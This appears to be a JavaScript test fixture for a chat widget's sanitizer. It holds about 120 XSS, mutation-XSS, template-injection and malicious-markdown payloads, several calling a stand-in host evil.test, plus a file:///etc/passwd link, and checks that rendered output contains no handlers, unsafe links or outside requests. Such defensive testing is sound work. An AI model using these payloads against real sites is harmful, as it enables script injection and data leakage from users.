// S48: texts that would do something if they were taken for markup, one list for the widget and the console; and what is
// looked at wherever they are shown.
// Not here: how they are delivered (markup.mjs, parrot.mjs).
import assert from "node:assert/strict";

/** What a page, a mail or a chat would run or fetch. As CommonMark it is the same text: raw HTML is nobody's to use. */
const HTML = [
  // script
  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<script\t>alert(1)</script >",
  "<ſcript>alert(1)</ſcript>", "<script>alert?.(1)</script>", "<script type=module>import('//evil.test/x.js')</script>", "<scr<script>ipt>alert(1)</script>",
  "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
  // pictures, sound, film
  "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">", "<IMG SRC=x OnErRoR=alert(1)>",
  "<img src='//evil.test/x.png'>", "<img srcset='//evil.test/y.png 2x'>", "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>", "<image src=x onerror=alert(1)>",
  "<picture><source srcset='//evil.test/p.png'><img></picture>", "<video><source onerror=alert(1)>", "<video poster=//evil.test/v.png></video>",
  "<audio src=//evil.test/x.mp3 autoplay>", "<input type=image src=1 onerror=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>",
  // svg and math
  "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
  "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
  "<math href='javascript:alert(1)'>x</math>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  // what changes its meaning when it is read twice (mXSS)
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->",
  "<!--x--!><img src=x onerror=alert(1)>", "<xmp><svg/onload=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>",
  "<template><script>alert(1)</script></template>", "<listing><img src=x onerror=alert(1)></listing>", "<a title='</a><img src=x onerror=alert(1)>'>x</a>",
  "<select><template shadowrootmode=open><script>alert(1)</script></template></select>", "<table><td><form><img src=x onerror=alert(1)></table>",
  // frames and plug-ins
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
  "<frameset onload=alert(1)>", "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src=//evil.test/x.swf>",
  "<embed src=javascript:alert(1)>", "<applet code=x onerror=alert(1)>", "<portal src=//evil.test onload=alert(1)>",
  // addresses
  "<a href='javascript:alert(1)'>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href='java&#10;script:alert(1)'>x</a>", "<a href=' &#9;javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<area href=javascript:alert(1)>",
  "<base href=//evil.test/>", "<form action=//evil.test><button>x", "<form><button formaction=javascript:alert(1)>x", "<table background='javascript:alert(1)'>",
  "<meta http-equiv=refresh content='0;url=//evil.test'>", "<link rel=stylesheet href=//evil.test/x.css>", "<link rel=prefetch href=//evil.test/p>",
  "<a ping=//evil.test/ping href=#>x</a>",
  // style
  "<style>body{background:url(//evil.test/a)}</style>", "<style>@import'//evil.test/b.css';</style>", "<div style='background:url(//evil.test/z)'>x</div>",
  "<div style='position:fixed;inset:0'>x</div>", "<p style=animation-name:x onanimationend=alert(1)>x</p>", "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
  // handlers
  "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>", "<div contenteditable autofocus onfocus=alert(1) tabindex=1>x</div>", "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>",
  "<b onmouseover=alert(1)>x</b>", "<b onpointerenter=alert(1)>x</b>", "<b onwheel=alert(1)>x</b>", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
  "<video src=x onloadstart=alert(1)>", "<x onclick=alert(1)>x</x>", "<track default onerror=alert(1)>", "<object onerror=alert(1)>",
  // elements of the product's own, templates of others
  "<deskbridge-widget>", "<slot name=x onslotchange=alert(1)></slot>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "[[${alert(1)}]]", "'-alert(1)-'",
  "\";alert(1);//", "javascript:alert(1)",
];

/** What is another text when it is read as CommonMark: `[as it is written, what of it a person reads]`. */
const MARKDOWN = [
  ["[one](javascript:alert(1))", "one"], ["[two](data:text/html,<script>alert(1)</script>)", "two"], ["![three](https://evil.test/tracker.png)", "three"],
  ["![four](javascript:alert(1))", "four"], ["<javascript:alert(1)>", "javascript:alert(1)"], ["[five](vbscript:msgbox(1))", "five"], ["[six](//evil.test)", "six"],
  ["[seven](JaVaScRiPt:alert(1))", "seven"], ["[eight](<java\tscript:alert(1)>)", "eight"], ["[nine](&#106;avascript:alert(1))", "nine"], ["[ten](https://evil.test/\"onmouseover=alert(1))", "ten"],
  ["![eleven](data:image/svg+xml,<svg/onload=alert(1)>)", "eleven"], ["[![twelve](https://evil.test/x.png)](javascript:alert(1))", "twelve"],
  ["`<img src=x onerror=alert(1)>`", "<img src=x onerror=alert(1)>"], ["&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"],
  ["&#60;img src=x onerror=alert(1)&#62;", "<img src=x onerror=alert(1)>"], ["**<b onclick=alert(1)>thirteen</b>**", "<b onclick=alert(1)>thirteen</b>"],
  ["[fourteen](file:///etc/passwd)", "fourteen"], ["[fifteen](blob:https://evil.test/x)", "fifteen"], ["\u202egnp.exe", "gnp.exe"], ["![x](https://evil.test/?c=sixteen \"<img src=x onerror=alert(1)>\")", "x"],
];

/** `text`: as a person types it, and as it has to be shown then. `read`: what has to be read of it where it came as CommonMark. */
export const VECTORS = [...HTML.map((text) => ({ text, read: text })), ...MARKDOWN.map(([text, read]) => ({ text, read }))];

if (VECTORS.length < 120) throw new Error(`${VECTORS.length} vectors, and it has to be 120`);
if (new Set(VECTORS.map(({ text }) => text)).size !== VECTORS.length) throw new Error("a vector stands there twice");

/** Names for files and people, where no path can be: those without a slash or a quote, and short enough to be kept. */
export const NAMES = HTML.filter((text) => !/[/\\"\t]/.test(text) && text.length <= 60);

const NAMED = { "&lt;": "<", "&gt;": ">", "&amp;": "&" };

/** Entities as what they stand for: where HTML is text, CommonMark reads them. */
const decoded = (text) =>
  text.replace(/&#(\d+);/g, (_, number) => String.fromCodePoint(Number(number))).replace(/&(?:lt|gt|amp);/g, (entity) => NAMED[entity]);

/** Without what lines, spaces, joiners and turns are made of: those may be put, or taken out, where somebody needs it. */
export const squeezed = (text) => text.replace(/[\s\u00a0\u200b\u2060\ufeff\u200e\u200f\u202a-\u202e\u2066-\u2069]+/g, "");

/** As it is read, however it is broken into lines. */
export const same = (text) => squeezed(decoded(text));

/** Everything that left for elsewhere. */
export function watch(context) {
  const outside = [];
  context.on("request", (request) => {
    const { hostname, protocol } = new URL(request.url());
    if (/^(http|ws)/.test(protocol) && !["127.0.0.1", "localhost"].includes(hostname)) outside.push(request.url());
  });
  return outside;
}

/** What a message may be built of. */
const ELEMENTS = ["p", "br", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "a", "hr", "table", "thead", "tr", "td", "span", "i"];

/** Built of allowed elements alone, none of which does anything; links lead to the web, and say where to. */
export async function harmless(widget) {
  const found = await widget.panel.evaluate((panel) =>
    [...panel.querySelectorAll(".bubble *, .files *, header *, .row *, .state *")].map((e) => [e.localName, [...e.attributes].map(({ name }) => name), e.protocol, e.title === e.href]));
  const inMessages = await widget.panel.evaluate((panel) => [...new Set([...panel.querySelectorAll(".bubble *")].map((e) => e.localName))]);
  assert.deepEqual(inMessages.filter((name) => !ELEMENTS.includes(name)), []);
  assert.deepEqual(found.filter(([, names]) => names.some((name) => /^on|^srcdoc|^formaction|^style/.test(name))), []);
  assert.deepEqual(found.filter(([name, , protocol]) => name === "a" && !["http:", "https:", "mailto:"].includes(protocol)), []);
  const links = await widget.panel.evaluate((panel) => [...panel.querySelectorAll(".bubble a")].map((a) => [a.title, a.getAttribute("href")]));
  assert.deepEqual(links.filter(([title, href]) => title !== href), [], "a link says where it leads");
}
